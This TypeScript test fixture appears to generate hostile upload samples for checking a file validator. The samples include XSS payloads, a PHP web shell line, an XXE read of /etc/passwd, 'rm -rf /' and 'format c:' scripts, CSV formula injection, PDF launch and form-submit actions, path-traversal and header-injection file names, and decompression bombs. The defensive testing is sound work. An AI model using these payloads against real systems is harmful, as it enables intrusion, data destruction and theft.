import { crc32, deflateSync, gzipSync } from 'node:zlib';
import sharp from 'sharp';
import { pdf, picture } from './sound-files.ts';

export interface HostileFile {
  what: string;
  name: string;
  bytes: Buffer;
  /** `kept`: accepted, but only the visible content is stored. */
  outcome: 'kept' | 'not_a_document' | 'unreadable_file';
}

/** No stored file may contain this. */
export const payload = '<script>alert("payload")</script>';

const text = (content: string) => Buffer.from(content, 'utf8');
const bytes = (...values: number[]) => Buffer.from([...values, ...Array(64).fill(0)]);

function pngChunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  sum.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, sum]);
}

const pngStart = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

/** Declares a huge size but holds almost no data. */
function hugePng(width: number, height: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 6, 0, 0, 0], 8);
  const image = deflateSync(Buffer.alloc(1_000_000));
  return Buffer.concat([
    pngStart,
    pngChunk('IHDR', header),
    pngChunk('IDAT', image),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** Inserts a chunk between the header and the picture. */
function withPngChunk(png: Buffer, type: string, data: Buffer): Buffer {
  const afterHeader = 8 + 25;
  return Buffer.concat([png.subarray(0, afterHeader), pngChunk(type, data), png.subarray(afterHeader)]);
}

function withJpegSize(jpeg: Buffer, side: number): Buffer {
  const changed = Buffer.from(jpeg);
  const frame = Math.max(
    changed.indexOf(Buffer.from([0xff, 0xc0])),
    changed.indexOf(Buffer.from([0xff, 0xc2])),
  );
  changed.writeUInt16BE(side, frame + 5);
  changed.writeUInt16BE(side, frame + 7);
  return changed;
}

function withJpegComment(jpeg: Buffer, comment: string): Buffer {
  const length = Buffer.alloc(2);
  length.writeUInt16BE(comment.length + 2);
  const segment = Buffer.concat([Buffer.from([0xff, 0xfe]), length, text(comment)]);
  return Buffer.concat([jpeg.subarray(0, 2), segment, jpeg.subarray(2)]);
}

function hugeWebp(side: number): Buffer {
  const chunk = Buffer.alloc(18);
  chunk.write('VP8X', 0, 'latin1');
  chunk.writeUInt32LE(10, 4);
  chunk.writeUIntLE(side - 1, 12, 3);
  chunk.writeUIntLE(side - 1, 15, 3);
  const head = Buffer.alloc(12);
  head.write('RIFF', 0, 'latin1');
  head.writeUInt32LE(chunk.length + 4, 4);
  head.write('WEBP', 8, 'latin1');
  return Buffer.concat([head, chunk]);
}

function flipped(original: Buffer, at: number): Buffer {
  const changed = Buffer.from(original);
  for (let index = at; index < Math.min(at + 24, changed.length); index += 1) changed[index] = 0xa5;
  return changed;
}

const zip = Buffer.concat([text('PK\x03\x04'), bytes(20, 0, 0, 0, 8), text('PK\x05\x06'), Buffer.alloc(18)]);

/** More than sixty ways to send something other than a picture or a document. */
export async function hostileFiles(): Promise<HostileFile[]> {
  const [png, jpeg, webp, gif] = await Promise.all([
    picture('png'),
    picture('jpeg'),
    picture('webp'),
    picture('gif'),
  ]);
  const located = await sharp(jpeg)
    .withExif({ IFD0: { Copyright: payload }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '51/1 30/1 0/1' } })
    .jpeg()
    .toBuffer();
  const animated = await sharp([gif, gif], { join: { animated: true } })
    .webp({ loop: 0 })
    .toBuffer();
  const svg = text(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${payload}</svg>`);
  const rejected = (what: string, name: string, content: Buffer): HostileFile => ({
    what,
    name,
    bytes: content,
    outcome: 'not_a_document',
  });
  const broken = (what: string, name: string, content: Buffer): HostileFile => ({
    ...rejected(what, name, content),
    outcome: 'unreadable_file',
  });
  const kept = (what: string, name: string, content: Buffer): HostileFile => ({
    ...rejected(what, name, content),
    outcome: 'kept',
  });
  return [
    rejected('SVG with a script', 'picture.svg', svg),
    rejected('SVG as PNG', 'picture.png', svg),
    rejected('SVG behind an XML line', 'picture.jpg', Buffer.concat([text('<?xml version="1.0"?>\n'), svg])),
    rejected('SVG packed', 'picture.svgz', gzipSync(svg)),
    rejected('HTML as PNG', 'picture.png', text(`<!doctype html><html>${payload}</html>`)),
    rejected('HTML as JPEG', 'picture.jpg', text(`<html><body>${payload}</body></html>`)),
    rejected('HTML behind spaces', 'picture.webp', text(`\n\n   <HTML>${payload}`)),
    rejected(
      'XHTML',
      'paper.pdf',
      text(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${payload}</html>`),
    ),
    rejected(
      'an external entity',
      'paper.xml',
      text('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'),
    ),
    rejected('PHP as PNG', 'picture.php.png', text('<?php system($_GET["c"]); ?>')),
    rejected('PHP behind the letters of a GIF', 'picture.gif', text('GIF89a;<?php phpinfo(); ?>')),
    rejected('a shell script', 'run.sh', text('#!/bin/sh\nrm -rf /\n')),
    rejected('a batch file', 'run.bat', text('@echo off\r\nformat c:\r\n')),
    rejected('JavaScript', 'code.js', text('alert(document.cookie)')),
    rejected('a Linux program', 'picture.jpg', bytes(0x7f, 0x45, 0x4c, 0x46, 2, 1, 1)),
    rejected('a Windows program', 'picture.png', bytes(0x4d, 0x5a, 0x90, 0)),
    rejected('a Java class', 'picture.png', bytes(0xca, 0xfe, 0xba, 0xbe)),
    rejected('WebAssembly', 'picture.png', bytes(0, 0x61, 0x73, 0x6d, 1)),
    rejected('a zip', 'papers.zip', zip),
    rejected('a zip as PDF', 'paper.pdf', zip),
    rejected('a packed bomb', 'paper.gz', gzipSync(Buffer.alloc(5_000_000))),
    rejected('a 7z', 'paper.7z', bytes(0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c)),
    rejected('a rar', 'paper.rar', bytes(0x52, 0x61, 0x72, 0x21, 0x1a, 7, 0)),
    rejected('an old Word file', 'paper.doc', bytes(0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1)),
    rejected('RTF', 'paper.rtf', text('{\\rtf1\\ansi\\object\\objdata}')),
    rejected('PostScript', 'paper.ps', text('%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n')),
    rejected('a GIF', 'picture.gif', gif),
    rejected('a GIF as JPEG', 'picture.jpg', gif),
    rejected('a GIF that is an archive too', 'picture.gif', Buffer.concat([gif, zip])),
    rejected('a TIFF', 'picture.tiff', await picture('tiff')),
    rejected('an AVIF', 'picture.avif', await picture('avif')),
    rejected('a BMP', 'picture.bmp', bytes(0x42, 0x4d, 0x46, 0, 0, 0, 0, 0, 0, 0, 0x36)),
    rejected('an icon', 'favicon.ico', bytes(0, 0, 1, 0, 1, 0, 16, 16)),
    rejected('a Photoshop file', 'picture.psd', bytes(0x38, 0x42, 0x50, 0x53, 0, 1)),
    rejected('a film', 'film.mp4', Buffer.concat([bytes(0, 0, 0, 24), text('ftypisom')])),
    rejected('sound', 'sound.mp3', text(`ID3\x03\x00\x00\x00\x00\x00\x00${'x'.repeat(40)}`)),
    rejected('Flash', 'film.swf', text(`CWS\x0a${'x'.repeat(40)}`)),
    rejected('a table with a formula', 'table.csv', text("=cmd|'/c calc'!A1,1\n")),
    rejected(
      'a virus test',
      'eicar.com',
      text('X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'),
    ),
    rejected('nothing', 'empty.png', Buffer.alloc(0)),
    rejected('one byte', 'one.jpg', Buffer.from([0xff])),
    rejected('only zeros', 'zeros.png', Buffer.alloc(4096)),
    rejected('a PDF behind HTML', 'paper.pdf', Buffer.concat([text(`<html>${payload}</html>\n`), pdf()])),
    broken(
      'the letters of a PNG alone',
      'picture.png',
      Buffer.concat([pngStart, pngChunk('IHDR', Buffer.alloc(13))]),
    ),
    broken('the letters of a JPEG alone', 'picture.jpg', bytes(0xff, 0xd8, 0xff, 0xe0, 0, 16)),
    broken(
      'the letters of a WebP alone',
      'picture.webp',
      text(`RIFF\x20\x00\x00\x00WEBPVP8 ${'x'.repeat(40)}`),
    ),
    broken(
      'HTML behind the letters of a JPEG',
      'picture.jpg',
      Buffer.concat([bytes(0xff, 0xd8, 0xff, 0xe0), text(payload)]),
    ),
    broken('half a PNG', 'picture.png', png.subarray(0, Math.floor(png.length / 2))),
    broken('half a JPEG', 'picture.jpg', jpeg.subarray(0, jpeg.length - 20)),
    broken('half a WebP', 'picture.webp', webp.subarray(0, Math.floor(webp.length / 2))),
    broken('a PNG with a broken middle', 'picture.png', flipped(png, png.length - 40)),
    broken('a PNG of 30,000 by 30,000', 'picture.png', hugePng(30_000, 30_000)),
    broken('a PNG of two thousand million pixels in one line', 'picture.png', hugePng(2_000_000_000, 1)),
    broken('a JPEG that says 65,500 by 65,500', 'picture.jpg', withJpegSize(jpeg, 65_500)),
    broken('a WebP that says 16,000 by 16,000', 'picture.webp', hugeWebp(16_000)),
    broken('a PDF with a script', 'paper.pdf', pdf('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>')),
    broken('a PDF with a script in disguise', 'paper.pdf', pdf('/OpenAction << /S /J#61vaScript >>')),
    broken('a PDF that starts a program', 'paper.pdf', pdf('/OpenAction << /S /Launch /F (calc.exe) >>')),
    broken('a PDF with a file inside', 'paper.pdf', pdf('/Names << /EmbeddedFiles 4 0 R >>')),
    broken('a PDF that is a form of another kind', 'paper.pdf', pdf('/AcroForm << /XFA 4 0 R >>')),
    broken(
      'a PDF that sends its fields',
      'paper.pdf',
      pdf('/AA << /S /SubmitForm /F (https://a.example) >>'),
    ),
    broken('half a PDF', 'paper.pdf', pdf().subarray(0, 120)),
    broken(
      'a PDF with an archive behind it',
      'paper.pdf',
      pdf('', `${'P'.repeat(2000)}${zip.toString('latin1')}`),
    ),
    broken(
      'a PDF with HTML in its first lines',
      'paper.pdf',
      text(pdf().toString('latin1').replace('1 0 obj', `%${payload}\n1 0 obj`)),
    ),
    kept('a JPEG with HTML behind it', 'picture.jpg', Buffer.concat([jpeg, text(payload)])),
    kept('a PNG with an archive behind it', 'picture.png', Buffer.concat([png, zip, text(payload)])),
    kept('a WebP with HTML behind it', 'picture.webp', Buffer.concat([webp, text(payload)])),
    kept('a JPEG with a script as comment', 'picture.jpg', withJpegComment(jpeg, `${payload}`)),
    kept('a JPEG that says where it was taken', 'picture.jpg', located),
    kept(
      'a PNG with a script as text',
      'picture.png',
      withPngChunk(png, 'tEXt', text(`Comment\0${payload}`)),
    ),
    kept(
      'a PNG with a bomb as text',
      'picture.png',
      withPngChunk(png, 'zTXt', Buffer.concat([text('Comment\0\0'), deflateSync(Buffer.alloc(20_000_000))])),
    ),
    kept('a WebP that moves', 'picture.webp', animated),
    kept('a JPEG called PDF', 'paper.pdf', jpeg),
    kept('a PNG called HTML', 'page.html', png),
    kept('a PNG called PHP', 'shell.php', png),
    kept('a name that climbs', '../../../../etc/passwd', png),
    kept('a name that climbs with backslashes', '..\\..\\..\\windows\\system32\\x.png', png),
    kept('a name that is a path', '/etc/cron.d/x', png),
    kept('a name with a line break', 'a\r\nSet-Cookie: x=1.png', png),
    kept('a name that reads backwards', 'a\u202Egnp.exe', png),
    kept('a name with quotes and brackets', '"><img src=x onerror=alert(1)>.png', png),
    kept('a name of a thousand letters', `${'ä'.repeat(1000)}.png`, png),
    kept('a hidden name', '.htaccess', png),
  ];
}
